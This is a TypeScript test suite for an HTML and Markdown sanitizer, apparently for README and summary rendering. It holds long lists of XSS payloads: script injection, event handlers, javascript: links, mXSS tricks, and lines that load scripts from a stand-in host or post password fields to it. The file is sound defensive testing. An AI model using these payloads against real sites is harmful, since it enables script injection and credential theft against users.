/** What attackers write into READMEs and summaries, and what is left of it. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { maxReadmeBytes, renderMarkdown, sanitizeEntry, sanitizeHtmlText, sanitizeLine } from './sanitize.ts'

const SAFE_TAGS =
  'h1 h2 h3 h4 h5 h6 p br hr div span blockquote pre code kbd samp ul ol li dl dt dd strong b em i del s sub sup a img ' +
  'details summary table thead tbody tfoot tr th td caption'
const SAFE_ATTRIBUTES = 'href title rel src alt width height class start align colspan rowspan'

/** Reads our own output, which is well-formed, tag by tag. */
function assertHarmless(html: string): void {
  const tags = [...html.matchAll(/<\/?([^\s/>]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)]
  assert.equal(html.split('<').length - 1, tags.length, `something else than tags in ${html}`)
  for (const [, name = '', attributes = ''] of tags) {
    assert.ok(SAFE_TAGS.split(' ').includes(name), `<${name}> in ${html}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=]+)="([^"]*)"/g)) {
      assert.ok(SAFE_ATTRIBUTES.split(' ').includes(attribute), `${attribute} in ${html}`)
      if (attribute === 'href') assert.match(value, /^(?:(?:https?|mailto):|[^:]*$)/i, html)
      if (attribute === 'src') assert.match(value, /^(?:https:|(?!\/\/)[^:]*$)/i, html)
    }
    if (name === 'a' && attributes !== '') assert.match(attributes, /rel="nofollow noopener noreferrer"/)
  }
}

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\n>',
  '<style>@import "//evil.example"</style><p style="background:url(javascript:alert(1))">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x OnErRoR\n=\nalert(1)>',
  '<img src=x on\u0000error=alert(1)>',
  '<img src="http://evil.example/pixel.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.example/x.png"><img src="\\\\evil.example/x.png"><img src="/\\evil.example/x.png">',
  '<img srcset="https://evil.example/x 1x" src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#58alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:https://x/1">x</a><a href="file:///etc/passwd">x</a><a href="tel:1">x</a>',
  '<a href="https://x" target="_top" rel="opener" onclick="x" ping="https://evil.example" download>x</a>',
  '<a href="https://x/?a=&quot; onclick=&quot;alert(1)">x</a>',
  '<form action="https://evil.example"><input name=p type=password><button formaction=javascript:1>x</button></form>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet><portal src=x></portal>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href=x>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg><svg><use href="data:x"></use></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><img src=x onerror=alert(1)>--!><script>alert(1)</script>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html><!ENTITY x SYSTEM "file:///etc/passwd">',
  '<table><td><script>alert(1)</script></table><table background="javascript:alert(1)"><caption onclick=x>y</table>',
  '<details open ontoggle=alert(1)><summary onclick=x>y</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)><marquee onstart=alert(1)>x</marquee>',
  '<div id="location" name="body" class="modal" style="position:fixed">x</div><code class="language-js evil">x</code>',
  '<x-custom onclick=x is="y">x</x-custom><body onload=alert(1)><html onmouseover=x>',
  '<p title="<!--">x</p><p title="--><img src=x onerror=alert(1)>">y</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a title="a\u2028b" href="https://x">x</a><b\u0000>x</b>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<<img src=x onerror=alert(1)>>',
  '<img src=x onerror=alert(1)',
  '<a href="javascript:alert(1)',
]

const markdownAttacks: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](  JAVASCRIPT:alert(1) "t")',
  '[x](java&#115;cript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](<javascript:alert(1)>)',
  '[x]\n\n[x]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://a.example/x.png"onerror="alert(1))',
  '![x" onerror="alert(1)](https://a.example/x.png "t\\" onerror=\\"alert(1)")',
  '<javascript:alert(1)>',
  '```js"><script>alert(1)</script>\nx\n```',
  '```"onclick="alert(1)\nx\n```',
  '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
  '`<script>`<script>alert(1)</script>',
  '<div\n\nonclick=alert(1)>x</div>',
  '[<script>alert(1)</script>](https://x)',
]

for (const attack of attacks) {
  test(`HTML: ${JSON.stringify(attack)}`, () => {
    assertHarmless(sanitizeHtmlText(attack))
    assertHarmless(renderMarkdown(attack))
    assert.doesNotMatch(sanitizeLine(attack), /<|javascript:alert.*">/)
    const once = sanitizeHtmlText(attack)
    assert.equal(sanitizeHtmlText(once), once, 'what is safe stays as it is')
  })
}

for (const attack of markdownAttacks) {
  test(`Markdown: ${JSON.stringify(attack)}`, () => assertHarmless(renderMarkdown(attack)))
}

describe('what authors mean well', () => {
  const readme: readonly [markdown: string, html: string][] = [
    ['# Title\n\n*a* **b** ~~c~~ `d`', '<h1>Title</h1>\n<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>'],
    ['```js\na < b\n```', '<pre><code class="language-js">a &lt; b\n</code></pre>'],
    ['[x](https://x.example)', '<p><a href="https://x.example" rel="nofollow noopener noreferrer">x</a></p>'],
    [
      'see https://x.example/y',
      '<p>see <a href="https://x.example/y" rel="nofollow noopener noreferrer">https://x.example/y</a></p>',
    ],
    [
      '![i](https://x.example/i.png) ![j](docs/j.png)',
      '<p><img src="https://x.example/i.png" alt="i" /> <img src="docs/j.png" alt="j" /></p>',
    ],
    ['<details><summary>More</summary>x</details>', '<details><summary>More</summary>x</details>'],
  ]
  for (const [markdown, html] of readme) {
    test(JSON.stringify(markdown), () => assert.equal(renderMarkdown(markdown), html))
  }

  test('a table keeps its alignment', () => {
    const html = renderMarkdown('|a|b|\n|:-|-:|\n|c|d|')
    assert.match(html, /<th align="left">a<\/th>\n<th align="right">b<\/th>/)
  })

  test('a line without tags stays as it is', () => {
    for (const line of ['a < b && c > d', 'x<3', 'Tom & Jerry', '"quoted" &amp;'])
      assert.equal(sanitizeLine(line), line)
    assert.equal(sanitizeLine('<b>bold</b> & plain'), 'bold &amp; plain')
  })
})

describe('texts for pages', () => {
  test('JSON stays JSON, its texts become harmless, however they are escaped', () => {
    const link = '<a href="https://x.example">x</a>'
    const entry = {
      enabled: true,
      theme: 'info',
      message: `${link}<img src=x onerror=alert(1)>`,
      more: [{ a: '<script>' }],
    }
    const safe = '<a href="https://x.example" rel="nofollow noopener noreferrer">x</a><img src="x" />'
    const expected = { ...entry, message: safe, more: [{ a: '' }] }
    const escaped = JSON.stringify(entry).replaceAll('<', '\\u003c')
    assert.deepEqual(JSON.parse(sanitizeEntry(JSON.stringify(entry))), expected)
    assert.deepEqual(JSON.parse(sanitizeEntry(escaped)), expected)
  })

  test('anything else is a text', () => {
    assert.equal(sanitizeEntry('#336699'), '#336699')
    assert.equal(sanitizeEntry('{ no JSON <script>x</script>'), '{ no JSON ')
    assert.equal(sanitizeEntry('"<b onclick=x>a</b>"'), '"<b>a</b>"')
  })
})

test('a text that is too long is shown as it was written', () => {
  const text = `<script>${'x'.repeat(maxReadmeBytes)}`
  for (const html of [renderMarkdown(text), sanitizeHtmlText(text), sanitizeLine(text)]) {
    assert.ok(html.startsWith('&lt;script&gt;xxx'))
  }
})

test('elements are nested 50 deep at most', () => {
  assert.equal(sanitizeHtmlText('<b>'.repeat(1000)).split('<b>').length - 1, 50)
})

describe('texts that keep parsers busy', () => {
  const fill = (unit: string) => unit.repeat(Math.ceil((64 * 1024) / unit.length))
  const slow = {
    brackets: fill('['),
    'links without end': fill('[a]('),
    'images without end': fill('![a'),
    'half tildes': fill('~~a~'),
    stars: fill('**a'),
    quotes: fill('> '),
    'an e-mail address': `${fill('a')}@`,
    'nested tags': fill('<b><i>'),
    'open tags': fill('<a '),
    comments: fill('<!-- '),
  }
  for (const [name, text] of Object.entries(slow)) {
    test(`${name}: within seconds, on a slow machine as well`, () => {
      const start = performance.now()
      assertHarmless(renderMarkdown(text))
      assert.ok(performance.now() - start < 5000, `${performance.now() - start} ms`)
    })
  }
})
